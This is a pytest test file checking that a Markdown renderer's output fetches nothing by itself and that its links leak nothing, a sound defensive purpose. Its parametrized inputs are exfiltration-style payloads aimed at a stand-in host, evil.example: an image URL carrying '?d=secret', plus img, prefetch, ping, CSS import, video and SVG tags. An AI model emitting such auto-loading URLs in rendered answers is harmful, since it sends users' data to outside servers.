"""Tests of what is made from Markdown: plain text, and HTML that fetches nothing by itself."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse
from lxml import html  # type: ignore[import-untyped]

from core import markdown
from core.env import ROOT


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("# Trains\n\n- **one** at `7:05`\n- two", "Trains · one at 7:05 · two"),
        ("Read [the plan](https://a.example/plan).", "Read the plan."),
        ("A word re**bui**lt, a_name_kept, 3 * 4 > 5", "A word rebuilt, a_name_kept, 3 * 4 > 5"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a · b · 1 · 2"),
        ("```sh\nls | wc\n```", "ls | wc"),
        ("first\nsecond", "first second"),
        ("It is so.\n\nWhy? Because:\n\n- of this", "It is so. Why? Because: of this"),
        ("<b>kept as it is</b>", "<b>kept as it is</b>"),
    ],
)
def test_plain_text_has_no_markup_and_loses_nothing_else(text, words):
    assert markdown.plain(text) == words


def test_an_excerpt_is_cut_at_its_maximum_length():
    assert markdown.excerpt("**one** two three", longest=8) == "one two…"


# ── Links and images fetch nothing by themselves ─────────────────────────────────────────────────


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/?d=secret)",
        "[![chart](https://evil.example/c.png)](https://evil.example/)",
        "![chart][c]\n\n[c]: https://evil.example/c.png",
        '<img src="https://evil.example/c.png">',
        '<link rel="prefetch" href="https://evil.example/">',
        '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
        "<style>@import url(https://evil.example/x.css);</style>",
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
        "<svg><image href='https://evil.example/c.png'/></svg>",
    ],
)
def test_nothing_in_an_answer_is_fetched_when_it_is_shown(text):
    page = html.fromstring(f"<div>{markdown.render(text)}</div>")

    for element in page.iter():
        assert element.tag in {"div", "p", "a"}, element.tag
        assert set(element.attrib) <= {"href", "target", "rel"}, element.attrib


def test_a_link_of_an_answer_tells_its_server_nothing_about_the_page():
    page = html.fromstring(markdown.render("[plan](https://a.example/plan) <https://b.example>"))

    links = page.xpath("//a")
    assert [link.get("href") for link in links] == ["https://a.example/plan", "https://b.example"]
    for link in links:
        assert link.get("rel") == "noopener noreferrer nofollow"
        assert link.get("target") == "_blank"


def test_of_the_products_pages_only_the_one_that_connects_a_model_can_be_linked_to():
    text = "[Connect](/settings/providers/) [x](/settings/keys/) [y](/settings/providers/../keys/)"
    page = html.fromstring(markdown.render(text))

    (link,) = page.xpath("//a")
    assert dict(link.attrib) == {"href": reverse("providers")}


def test_no_page_asks_a_browser_to_fetch_ahead():
    """`vite_preload_asset` names files of this server only."""
    ahead = re.compile(
        r"rel=\"?[^\">]*(prefetch|preconnect|prerender)|speculationrules", re.IGNORECASE
    )
    sources = [*(ROOT / "templates").rglob("*.html"), *(ROOT / "frontend" / "src").rglob("*.ts")]

    assert [path.name for path in sources if ahead.search(path.read_text())] == []
